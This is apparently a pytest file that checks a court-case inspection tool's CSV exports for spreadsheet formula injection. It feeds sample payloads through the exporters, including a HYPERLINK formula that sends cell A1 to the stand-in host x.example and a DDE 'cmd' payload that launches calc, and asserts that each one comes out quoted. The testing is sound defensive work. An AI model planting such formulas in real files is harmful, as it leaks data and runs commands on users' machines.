"""CSV files open in spreadsheets as data: text never becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt

import pandas as pd

from inspector.reports.csv_writer import safe_cell, safe_frame
from inspector.services.cases import add_case
from inspector.services.problems import create_problem
from inspector.services.reports import write_csv
from inspector.services.sampling import export_sampling, sample_cases
from inspector.services.team import add_court

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A1",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
]


def test_formula_leading_text_is_quoted_and_numbers_are_not():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert (
        safe_cell(-5) == -5
        and safe_cell(3.5) == 3.5
        and safe_cell("（2024）云0102执1号") == "（2024）云0102执1号"
    )
    frame = safe_frame(pd.DataFrame({"法院": ["=1+1", "五华"], "数量": [1, -2]}))
    assert list(frame["法院"]) == ["'=1+1", "五华"] and list(frame["数量"]) == [1, -2]


def cells(path):
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def test_report_and_sample_csvs_write_no_formula(session, tmp_path):
    court = add_court(session, name="五华区法院", level="基层", code="云0102")
    for n, text in enumerate(HOSTILE, start=1):
        create_problem(session, court_id=court, category="消极执行", description=text)
        add_case(
            session,
            case_number=f"（2024）云0102执{n}号",
            court_id=court,
            judge=text,
            closing_method="终结本次执行程序",
            closing_date=dt.date(2024, 6, 1),
        )
    files = write_csv(session, folder=tmp_path / "csv", today=dt.date(2025, 11, 20))
    sample = sample_cases(session, count=len(HOSTILE), seed=1)
    export_sampling(session, sampling_id=sample.sampling_id, path=tmp_path / "sample.csv")
    for path in [*files, tmp_path / "sample.csv"]:
        for cell in cells(path):
            assert not cell.startswith(("=", "+", "@")), (path.name, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus
